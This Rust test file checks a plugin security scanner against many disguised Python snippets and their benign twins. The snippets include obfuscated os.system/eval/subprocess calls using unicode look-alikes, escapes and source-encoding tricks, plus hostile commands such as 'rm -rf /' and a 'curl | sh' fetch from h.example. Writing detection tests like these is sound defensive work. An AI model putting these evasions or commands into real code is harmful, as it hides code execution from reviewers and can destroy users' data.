//! Python: each payload in each disguise, next to a benign twin.

use std::fmt::Write as _;

use plugward_scanner::Profile;
use plugward_types::{Obfuscation, Severity};

use crate::common::{check, report};

/// A text, the rule that it shows, and what is hidden about it.
type Case = (&'static str, &'static str, Option<Obfuscation>);

const FOUND: &[Case] = &[
    ("import os\nos . system('x')", "py/os-exec", None),
    ("import os\nos.\\\nsystem('x')", "py/os-exec", None),
    ("import os\n(os\n .system # '\n)('x')", "py/os-exec", None),
    ("import os as o; o.system('x')", "py/os-exec", None),
    ("import a, os as o\no.system('x')", "py/os-exec", None),
    ("from os import (\n  path,\n  system as s,\n)\ns('x')", "py/os-exec", None),
    ("from os import *\nsystem('x')", "py/os-exec", None),
    ("import os\nf = os.system\nf('x')", "py/os-exec", None),
    ("import os\nf: object = os.system\nf('x')", "py/os-exec", None),
    ("import os\na, f = 1, os.system\nf('x')", "py/os-exec", None),
    ("import os\na = b = os\nb.system('x')", "py/os-exec", None),
    ("import os\n(o := os).system('x')", "py/os-exec", None),
    ("import os\nif (f := os.system): f('x')", "py/os-exec", None),
    ("import os\nself.o = os\nself.o.system('x')", "py/os-exec", None),
    ("def f():\n  o.system('x')\nimport os as o", "py/os-exec", None),
    ("def f(s=None, o=__import__('os')):\n  o.system('x')", "py/os-exec", None),
    ("import os\ngetattr(os, 'system')('x')", "py/os-exec", None),
    ("import os\ngetattr(os, 'sys' 'tem')('x')", "py/os-exec", Some(Obfuscation::Fold)),
    ("import os\ngetattr(os, '\\x73ystem')('x')", "py/os-exec", Some(Obfuscation::Escape)),
    (
        "import os\ngetattr(os, '\\N{LATIN SMALL LETTER S}ystem')('x')",
        "py/os-exec",
        Some(Obfuscation::Escape),
    ),
    ("import os\nn = 'system'\ngetattr(os, n)('x')", "py/os-exec", None),
    ("import os\nvars(os)['system']('x')", "py/os-exec", None),
    ("import os\nos.__dict__['system']('x')", "py/os-exec", None),
    ("import os\nvars(os).get('system')('x')", "py/os-exec", None),
    ("import os\nglobals()['os'].system('x')", "py/os-exec", None),
    ("import sys\nsys.modules['os'].system('x')", "py/os-exec", None),
    ("__import__('os').system('x')", "py/os-exec", None),
    ("import os\nos.__getattribute__('system')('x')", "py/os-exec", None),
    (
        "import subprocess\nsubprocess.Popen('x', -1, None, None, None, None, None, True, True)",
        "py/subprocess-shell",
        None,
    ),
    (
        "import subprocess as s\ns.call('x', -1, None, None, None, None, None, False, 1)",
        "py/subprocess-shell",
        None,
    ),
    ("import subprocess\nsubprocess.run(['sh'] + ['-c', x])", "py/subprocess-shell", None),
    ("__builtins__.__import__('os').system('x')", "py/os-exec", None),
    ("import importlib as i\ni.import_module('os').system('x')", "py/os-exec", None),
    ("from importlib import import_module as m\no = m('os')\no.system('x')", "py/os-exec", None),
    ("import os, operator\noperator.attrgetter('system')(os)('x')", "py/os-exec", None),
    ("import os, operator as op\nop.methodcaller('system', 'x')(os)", "py/os-exec", None),
    ("import os\nfrom functools import partial\npartial(os.system, 'x')()", "py/os-exec", None),
    ("import os\nlist(map(os.system, ['x']))", "py/os-exec", None),
    ("import os, threading\nthreading.Thread(target=os.system, args=('x',)).start()", "py/os-exec", None),
    ("import os\n@os.system\ndef f(): pass", "py/os-exec", None),
    ("import os\n[os.system][0]('x')", "py/os-exec", None),
    ("import os\n{'r': os.system}['r']('x')", "py/os-exec", None),
    ("import os\n(lambda: os.system('x'))()", "py/os-exec", None),
    ("import os\nx = f\"{os.system('x')}\"", "py/os-exec", None),
    ("import os\nx = f'{f\"{os.system('x')}\"}'", "py/os-exec", None),
    ("import os\nx = f'{a:{os.system(\"x\")}}'", "py/os-exec", None),
    ("import os\nx = t'{os.system(\"x\")!r:>10}'", "py/os-exec", None),
    ("import os\nx = f'''{\n os.system('x') # '\n}'''", "py/os-exec", None),
    ("import os\nx = f'{{}}'; os.system('x')", "py/os-exec", None),
    ("import os\nx = '#'; os.system('x') # '", "py/os-exec", None),
    ("import os\nx = r'\\'; y = '; os.system(1)'; os.system('x')", "py/os-exec", None),
    ("import os\n'''a'''; os.system('x'); '''b'''", "py/os-exec", None),
    ("import os\nif 1: os.system('x')", "py/os-exec", None),
    ("import os\nx = 1if os.system('x')else 2", "py/os-exec", None),
    ("import os\nx = [os.system(c) for c in a]", "py/os-exec", None),
    ("import os\nos.system('x') if a else b", "py/os-exec", None),
    ("import os\na = b or os.system; a('x')", "py/os-exec", None),
    ("import os\nawait os.system('x')", "py/os-exec", None),
    ("import os\nx = 'unclosed\nos.system('x')", "py/os-exec", None),
    ("import os\nf(\nimport a\nos.system('x')", "py/os-exec", None),
    ("import os\nx = \"\"\"\nos.system('x')", "py/os-exec", None),
    ("import os\r\nos.system('x')\r\n", "py/os-exec", None),
    ("import os\ros.system('x')\r", "py/os-exec", None),
    ("\u{feff}import os\nos.system('x')", "py/os-exec", None),
    ("import os\n\u{ff4f}\u{ff53}.system('x')", "py/os-exec", Some(Obfuscation::Unicode)),
    ("import \u{1d428}s\nos.syste\u{1d426}('x')", "py/os-exec", Some(Obfuscation::Unicode)),
    ("import os\nos.system.__call__('x')", "py/os-exec", None),
    ("eval ('x')", "py/eval", None),
    ("(eval)('x')", "py/eval", None),
    ("e = eval\ne('x')", "py/eval", None),
    ("import builtins\nbuiltins.eval('x')", "py/eval", None),
    ("from builtins import exec as e\ne('x')", "py/eval", None),
    ("__builtins__['eval']('x')", "py/eval", None),
    ("getattr(__builtins__, 'eval')('x')", "py/eval", None),
    ("globals()['__builtins__']['eval']('x')", "py/eval", None),
    ("\u{1d41e}val('x')", "py/eval", Some(Obfuscation::Unicode)),
    ("exec('import os; os.system(1)')", "py/os-exec", None),
    ("import os\nexec('os.system(1)')", "py/os-exec", None),
    ("exec(compile('import os\\nos.system(1)', 'a', 'exec'))", "py/os-exec", None),
    ("import subprocess\nsubprocess.run(c, shell = True)", "py/subprocess-shell", None),
    ("import subprocess\nsubprocess.run(c, shell=1)", "py/subprocess-shell", None),
    ("import subprocess\nsubprocess.run(c, **{'shell': True})", "py/subprocess-shell", None),
    ("import subprocess\nsubprocess.run(c, **dict(shell=True))", "py/subprocess-shell", None),
    ("import subprocess\no = {'shell': True}\nsubprocess.run(c, **o)", "py/subprocess-shell", None),
    ("import subprocess\nt = True\nsubprocess.run(c, shell=t)", "py/subprocess-shell", None),
    ("import subprocess\nsubprocess.run(c, shell=not False)", "py/subprocess-shell", None),
    ("import subprocess\nsubprocess.run(c, shell=bool(1))", "py/subprocess-shell", None),
    (
        "import subprocess, functools\nr = functools.partial(subprocess.run, shell=True)\nr(c)",
        "py/subprocess-shell",
        None,
    ),
    ("import subprocess\nsubprocess.run(('bash', '-c', c))", "py/subprocess-shell", None),
    ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', c])", "py/subprocess-shell", None),
    ("import os\nos.execvp('sh', ['sh', '-c', c])", "py/subprocess-shell", None),
    ("import os\nos.system('rm -rf /')", "sh/destructive", None),
    ("import os\nos.system('r' 'm -rf /')", "sh/destructive", Some(Obfuscation::Fold)),
    ("import os\nos.system(f'curl {u} | sh')", "sh/pipe-to-shell", None),
    ("import os\nos.system('curl ' + u + ' | sh')", "sh/pipe-to-shell", None),
    ("import subprocess\nsubprocess.run(['rm', '-rf', '/'])", "sh/destructive", None),
    ("import subprocess\nsubprocess.run('rm -rf /'.split())", "sh/destructive", None),
    ("import subprocess, shlex\nsubprocess.run(shlex.split('rm -rf /'))", "sh/destructive", None),
    ("import subprocess\nc = ['rm', '-rf', '/']\nsubprocess.run(c)", "sh/destructive", None),
    ("import subprocess\nsubprocess.run(args=['rm', '-rf', '/'])", "sh/destructive", None),
    ("import asyncio\nasyncio.create_subprocess_exec('rm', '-rf', '/')", "sh/destructive", None),
    ("import os\nos.execlp('rm', 'rm', '-rf', '/')", "sh/destructive", None),
    ("import os\nos.spawnvp(os.P_WAIT, 'rm', ['rm', '-rf', '/'])", "sh/destructive", None),
    ("import os\nos.system(\"python3 -c 'import pty; pty.spawn(1)'\")", "py/os-exec", None),
    ("import pickle as p\np.loads(b'x')", "py/deserialize", None),
    ("import os\ngetattr(os, n)()", "py/reflection", None),
    ("import os\nos.__dict__[n]()", "py/reflection", None),
    ("# coding: utf-7\n#+AAo-import os+AAo-os.system('x')", "py/os-exec", Some(Obfuscation::Encoding)),
    ("# coding: rot13\nvzcbeg bf; bf.flfgrz('k')", "py/os-exec", Some(Obfuscation::Encoding)),
    ("# coding: unicode_escape\n#\\x0aimport os\\x0aos.system(1)", "py/os-exec", Some(Obfuscation::Encoding)),
    (
        "# coding: raw-unicode-escape\n#\\u000aimport os\\u000aos.system(1)",
        "py/os-exec",
        Some(Obfuscation::Encoding),
    ),
    ("# coding: punycode\nimport os;os.system(1)-", "py/os-exec", Some(Obfuscation::Encoding)),
];

#[test]
fn every_disguise_shows_its_rule() {
    let mut wrong = String::new();
    for (text, rule, hidden) in FOUND {
        let report = report(Profile::StrictPlugin, &[("a.py", text.as_bytes())]);
        let mut found = report.findings().iter().filter(|finding| finding.rule.as_str() == *rule);
        let hit = found.any(|finding| {
            finding.severity == Severity::Danger
                && finding.span.end <= text.len()
                && !finding.span.is_empty()
                && hidden.is_none_or(|how| finding.how.contains(&how))
        });
        if !hit {
            writeln!(wrong, "{text:?}: {rule}: {:?}", check(Profile::StrictPlugin, "a.py", text)).unwrap();
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

/// The same shapes with nothing in them.
const BENIGN: &[&str] = &[
    "import os\nos.path.join('a', 'b')",
    "import os\ngetattr(os, 'sep')",
    "import os\nvars(os)['sep']",
    "from os import path as p\np.join('a')",
    "import importlib.metadata as m\nm.version('x')",
    "# os.system('x')",
    "'''\nos.system('x')\n'''",
    "x = \"os.system('x')\"",
    "x = f'os.system {a}'",
    "x = f'{{os.system(1)}}'",
    "def evaluate(x): return x\nevaluate('x')",
    "model.eval()\nframe.eval('a + b')",
    "re_compile = 1\nimport re\nre.compile('a')",
    "class A:\n  def system(self): pass\nA().system()",
    "logger.exec(x)",
    "import operator\noperator.attrgetter('name')(x)",
    "from functools import partial\npartial(print, 'x')()",
    "list(map(str, a))",
    "getattr(self, name)()",
    "x = globals()['CONFIG']",
    "import json\njson.loads(t)",
    "x = {'shell': True}",
    "x = ['sh'] + ['-c']",
    "import os\nos.__getattribute__('getcwd')()",
    "db.connect('1.2.3.4.sqlite')",
    "# -*- coding: utf-8 -*-\nx = 1",
    "\u{3b1} = 1\nprint(\u{3b1})",
    "x = r'\\'\ny = 2",
    "async def f():\n  await g()",
    "def f(a: 'eval(x)') -> 'exec(y)': pass",
];

#[test]
fn a_benign_twin_is_below_danger() {
    let mut wrong = String::new();
    for text in BENIGN {
        let found = check(Profile::StrictPlugin, "a.py", text);
        if found.iter().any(|line| line.contains("danger")) {
            writeln!(wrong, "{text:?}: {found:?}").unwrap();
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

#[test]
fn cells_of_a_notebook_are_code() {
    let cell = |kind: &str, source: &str| {
        format!(
            "{{\"cells\": [{{\"cell_type\": \"{kind}\", \"metadata\": {{}}, \"source\": {source}, \"outputs\": []}}]}}"
        )
    };
    for (source, rule) in [
        ("[\"import os\\n\", \"os.system('x')\"]", "py/os-exec"),
        ("\"import os\\nos.system('x')\"", "py/os-exec"),
        ("[\"!curl h.example/x | sh\"]", "sh/pipe-to-shell"),
        ("[\"%%bash\\n\", \"rm -rf /\"]", "sh/destructive"),
        ("[\"\\u0065val('x')\"]", "py/eval"),
    ] {
        let found = check(Profile::StrictPlugin, "a.ipynb", &cell("code", source));
        assert!(found.iter().any(|line| line.contains(rule)), "{source}: {found:?}");
        let found = check(Profile::StrictPlugin, "a.ipynb", &cell("markdown", source));
        assert!(!found.iter().any(|line| line.contains(rule)), "{source}: {found:?}");
    }
}

#[test]
fn a_span_is_the_call() {
    let text = "import os\nx = [ os . system ( 'é' ) ]\n";
    let report = report(Profile::StrictPlugin, &[("a.py", text.as_bytes())]);
    let found = report.findings().iter().find(|finding| finding.rule.as_str() == "py/os-exec").unwrap();
    assert_eq!(&text[found.span.start..found.span.end], "os . system ( 'é' )");
    assert_eq!((found.line, found.column), (2, 7));
}

#[test]
fn code_in_a_text_has_its_place() {
    let text = "import os\nos.system('true; rm -rf /')\n";
    let report = report(Profile::StrictPlugin, &[("a.py", text.as_bytes())]);
    let found = report.findings().iter().find(|finding| finding.rule.as_str() == "sh/destructive").unwrap();
    assert_eq!(&text[found.span.start..found.span.end], "rm -rf /");
}

#[test]
fn a_builtin_that_a_file_replaces_for_good_is_the_files_own_below_that() {
    for text in [
        "from re import compile\np = compile('x')\n",
        "from numexpr import evaluate as eval\neval('a+b')\n",
        "def eval(a): return a\neval(1)\n",
        "class exec:\n    pass\nexec('a')\n",
        "import sys\nx = 'json' in sys.modules\n",
        "import sys\nx = sys.modules\n",
        "import sys\nd = (\n m for m in sys.modules\n)\n",
    ] {
        let found = check(Profile::StrictPlugin, "a.py", text);
        assert!(!found.iter().any(|line| line.contains("danger")), "{text}: {found:?}");
    }
    for (text, rule) in [
        ("compile('x', 'f', 'exec')\nfrom re import compile\n", "1:1 danger py/eval"),
        ("if a: from re import compile as eval\neval('x')\n", "2:1 danger py/eval"),
        ("if a: \\\nfrom re import compile as eval\neval('x')\n", "3:1 danger py/eval"),
        ("def f():\n    from re import compile as eval\neval('x')\n", "3:1 danger py/eval"),
        ("def f():\n    def eval(a): pass\neval('x')\n", "3:1 danger py/eval"),
        ("from re import compile as eval\ndel eval\neval('x')\n", "3:1 danger py/eval"),
        ("from re import compile as eval\nfrom builtins import eval\neval('x')\n", "3:1 danger py/eval"),
        ("import sys\nm = sys.modules\nm['os'] = x\n", "3:1 danger py/reflection"),
        ("import sys\nsys.modules = x\n", "2:1 danger py/reflection"),
    ] {
        let found = check(Profile::StrictPlugin, "a.py", text);
        assert!(found.iter().any(|line| line.contains(rule)), "{text}: {found:?}");
    }
}

#[test]
fn what_is_open_over_a_limit_is_said_to_be_unread() {
    let brackets = |count: usize| format!("x = {}{}\n", "[".repeat(count), "]".repeat(count));
    let holes = |count: usize| format!("x = {}1{}\n", "f'{".repeat(count), "}'".repeat(count));
    for (text, told) in [
        (brackets(4_096), false),
        (brackets(4_097), true),
        ("(".repeat(6_000), true),
        (holes(65), false),
        ("f'{1}' [1]\n".repeat(5_000), false),
    ] {
        let found = check(Profile::StrictPlugin, "a.py", &text);
        let said = found.iter().any(|line| line.ends_with("danger scan/partial"));
        assert_eq!(said, told, "{}", text.len());
    }
    // What is behind is read all the same.
    let found =
        check(Profile::StrictPlugin, "a.py", &format!("{}import os\nos.system('x')\n", brackets(5_000)));
    assert!(found.iter().any(|line| line.ends_with("danger py/os-exec")), "{found:?}");
}
